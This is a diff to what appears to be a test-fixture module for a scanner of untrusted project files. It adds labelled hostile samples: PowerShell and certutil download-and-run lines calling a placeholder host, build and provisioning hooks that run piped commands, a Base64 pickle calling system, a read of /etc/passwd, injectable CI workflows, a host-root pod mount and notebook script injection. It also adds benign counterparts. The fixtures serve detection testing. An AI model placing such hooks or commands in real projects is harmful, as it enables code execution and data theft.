@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 import pickle
 
@@ -113,6 +114,72 @@ _LOGINS = {
         "sk-ant-api03-aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5bC7dE9fG1hJ3kL5mN7pQ9rS1tU-QwErTyAA\n",
     ),
 }
+_RECIPES = {
+    "of Jenkins": ("Jenkinsfile", f'pipeline {{ stage("x") {{ steps {{ sh "{_PIPED}" }} }} }}\n'),
+    "of Vagrant": ("Vagrantfile", f'c.vm.provision "shell", inline: "{_PIPED}"\n'),
+    "of Apptainer": ("a.def", f"Bootstrap: docker\nFrom: a\n%post\n    {_PIPED}\n"),
+    "of CMake": ("CMakeLists.txt", f'execute_process(COMMAND sh -c "{_PIPED}")\n'),
+    "of R at its start": (".Rprofile", f'system("{_PIPED}")\n'),
+    "of R Markdown": ("a.Rmd", f'```{{r}}\nsystem("{_PIPED}")\n```\n'),
+    "of PowerShell": ("a.ps1", f'IEX (New-Object Net.WebClient).DownloadString("{_AT}")\n'),
+    "of Windows": ("a.bat", f"certutil -urlcache -f {_AT} x.exe & x.exe\n"),
+    "of its scripts": ("a.vbs", 'CreateObject("WScript.Shell").Run "calc"\n'),
+    "of Gin": ("a.gin", "x = @subprocess.call\nsubprocess.call.args = ['true']\n"),
+    "of Gin from afar": ("a.gin", f"include '{_AT}.gin'\n"),
+    "of Jsonnet": ("a.jsonnet", 'local p = importstr "/etc/passwd"; { a: p }\n'),
+    "of Ollama": ("Modelfile", f"FROM {_AT}.gguf\n"),
+}
+_PICKLE = base64.b64encode(b"\x80\x04cposix\nsystem\n(\x8c\x04truetR.").decode()
+_ENCODED = {
+    "a text": ("a.b64", _PICKLE),
+    "JSON": ("a.json", json.dumps({"model": _PICKLE})),
+    "YAML": ("a.yaml", f"model: {_PICKLE}\n"),
+}
+_CONFIGS = {
+    "starts a shell for an assistant": (
+        ".mcp.json",
+        json.dumps({"mcpServers": {"x": {"command": "bash", "args": ["-c", "true"]}}}),
+    ),
+    "lets strangers run commands": (
+        "ci.yml",
+        "on: issue_comment\njobs:\n  a:\n    steps:\n"
+        "    - run: echo ${{ github.event.comment.body }}\n",
+    ),
+    "runs a stranger's code": (
+        "ci.yml",
+        "on: pull_request_target\njobs:\n  a:\n    steps:\n    - uses: actions/checkout@v4\n"
+        "      with:\n        ref: ${{ github.event.pull_request.head.sha }}\n",
+    ),
+    "mounts the machine": (
+        "pod.yaml",
+        "kind: Pod\nspec:\n  volumes:\n  - name: h\n    hostPath:\n      path: /\n",
+    ),
+    "takes a module from outside": (
+        "modules.json",
+        json.dumps([{"idx": 0, "path": "../../x", "type": "sentence_transformers.models.Dense"}]),
+    ),
+}
+_SHOWN = {
+    "shows a picture that runs": (
+        "a.ipynb",
+        notebook("1").replace(
+            '"outputs": []',
+            '"outputs": [{"output_type": "display_data", "metadata": {}, "data": '
+            '{"text/html": "<img src=x onerror=\'a()\'>"}}]',
+        ),
+    ),
+    "fetches in the browser": (
+        "a.ipynb",
+        notebook(f"%%html\n<script>fetch('{_AT}')</script>"),
+    ),
+}
+_LATER = {
+    "a data set": (
+        "d.py",
+        "import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n"
+        "    def _split_generators(self, m):\n        os.system('true')\n",
+    ),
+}
 STRANGERS_AGAIN: tuple[Sample, ...] = (
     *_set("hidden text", _UNSEEN),
     *_set("orders to an assistant,", _ORDERS),
@@ -120,6 +187,11 @@ STRANGERS_AGAIN: tuple[Sample, ...] = (
     *_set("an index", _INDEXES),
     *_set("a cell that", _CELLS),
     *_set("a login", _LOGINS),
+    *_set("a recipe", _RECIPES),
+    *_set("a pickle behind Base64 in", _ENCODED),
+    *_set("a configuration that", _CONFIGS),
+    *_set("a notebook that", _SHOWN),
+    *_set("code that is run by", _LATER),
     *_bytes("a secret", "a.pkl", _SECRETS),
 )
 
@@ -159,6 +231,35 @@ _PLAIN_TEXTS = {
     "an environment": (".env", "MODEL_NAME=x\nINDEX_PATH=/data/index\n"),
     "a notebook": ("a.ipynb", notebook("%env CUDA_VISIBLE_DEVICES=0", "%load_ext autoreload")),
 }
+_PLAIN_RECIPES = {
+    "of Jenkins": ("Jenkinsfile", 'pipeline { stage("x") { steps { sh "make test" } } }\n'),
+    "of CMake": ("CMakeLists.txt", "project(a)\nexecute_process(COMMAND git describe)\n"),
+    "of Gin": ("a.gin", "include 'b.gin'\nimport t5.models\nrun.model = @t5.models.MtfModel()\n"),
+    "of Jsonnet": ("a.jsonnet", "local a = import 'lib/a.libsonnet'; a + { b: '/c' }\n"),
+    "of Ollama": ("Modelfile", 'FROM llama3.2\nPARAMETER temperature 1\nSYSTEM """Be kind."""\n'),
+    "of an assistant": (
+        ".mcp.json",
+        '{"mcpServers": {"x": {"command": "uvx", "args": ["mcp-server-git"]}}}',
+    ),
+    "of GitHub": (
+        "ci.yml",
+        "on: pull_request\njobs:\n  a:\n    steps:\n    - uses: actions/checkout@v4\n"
+        "      with:\n        ref: ${{ github.event.pull_request.head.sha }}\n"
+        "    - run: echo ${{ github.event.pull_request.number }}\n",
+    ),
+    "of Compose": (
+        "compose.yml",
+        "services:\n  a:\n    image: a\n    volumes: ['./m:/m', '/etc/localtime:/etc/localtime']\n",
+    ),
+    "of numbers": (
+        "a.json",
+        json.dumps({"image": base64.b64encode(bytes(range(128, 200))).decode()}),
+    ),
+    "of a client": (
+        "client.py",
+        "import requests\nprint(requests.post('http://127.0.0.1:8080/p', data=b'1').json())\n",
+    ),
+}
 _PLAIN_PICKLES = {
     "of notes on pickles": pickle.dumps(
         {"note": "cos\nsystem\n(S'x'\ntR is how a call looks", "short": "cos\nsystem\n"}
@@ -171,4 +272,5 @@ HARMLESS_AGAIN: tuple[Sample, ...] = (
     *_bytes("pickle", "a.pkl", _PLAIN_PICKLES, harm=False),
     *_set("script", _PLAIN_SCRIPTS, harm=False),
     *_set("text", _PLAIN_TEXTS, harm=False),
+    *_set("recipe", _PLAIN_RECIPES, harm=False),
 )
